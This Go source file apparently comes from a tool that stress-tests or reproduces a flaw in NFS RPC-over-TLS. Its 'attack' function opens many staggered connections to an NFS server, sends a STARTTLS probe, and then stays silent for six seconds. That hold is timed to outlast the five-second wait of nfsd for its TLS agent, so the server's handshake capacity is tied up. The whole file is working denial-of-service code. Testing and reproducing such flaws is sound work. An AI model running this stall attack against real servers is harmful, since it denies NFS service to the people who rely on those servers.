// SPDX-License-Identifier: BSD-3-Clause

package main

import (
	"context"
	"errors"
	"io"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"rpctls/rpc"
)

// An attack is what -stall prints.
type attack struct {
	Connections int64 `json:"connections"` // that the server accepted
	Promised    int64 `json:"promised"`    // on which it answered STARTTLS
	HungUp      int64 `json:"hung_up"`     // and which it then closed
}

const (
	stagger = 20 * time.Millisecond
	// hold is longer than nfsd waits for its agent (5 s).
	hold = 6 * time.Second
)

// attack runs until ctx ends or the time is over. When all clients have begun
// and enough of them stall, ready is called, once.
func (o *options) attack(ctx context.Context, ready func()) attack {
	if o.duration > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, o.duration)
		defer cancel()
	}
	var begun, connections, promised, hungUp atomic.Int64
	var once sync.Once
	check := func() {
		if begun.Load() == int64(o.clients) && promised.Load() >= int64(min(o.ready, o.clients)) {
			once.Do(ready)
		}
	}
	var wg sync.WaitGroup
	for client := range o.clients {
		wg.Go(func() {
			// One after the other: a burst would mostly be refused by the
			// kernel, whose queue is short, and what it refuses holds up
			// nobody.
			sleep(ctx, time.Duration(client)*stagger)
			begun.Add(1)
			for n := client; ctx.Err() == nil; n += o.clients {
				conn, err := o.dial(ctx, n)
				if err != nil {
					// Nobody listens, or not yet: that costs the server
					// nothing, and should not cost the load's host much.
					sleep(ctx, 50*time.Millisecond)
					continue
				}
				connections.Add(1)
				check()
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				if rpc.Probe(ctx, conn, rpc.ProgramNFS, rpc.NFSVersion4) == nil {
					promised.Add(1)
					check()
					// Silence, until the server has enough of it, or has
					// surely forgotten us.
					if err := conn.SetReadDeadline(time.Now().Add(hold)); err != nil {
						return
					}
					_, err := io.Copy(io.Discard, conn)
					if ctx.Err() == nil && !errors.Is(err, os.ErrDeadlineExceeded) {
						hungUp.Add(1)
					}
				}
				stop()
				conn.Close()
			}
		})
	}
	wg.Wait()
	return attack{connections.Load(), promised.Load(), hungUp.Load()}
}
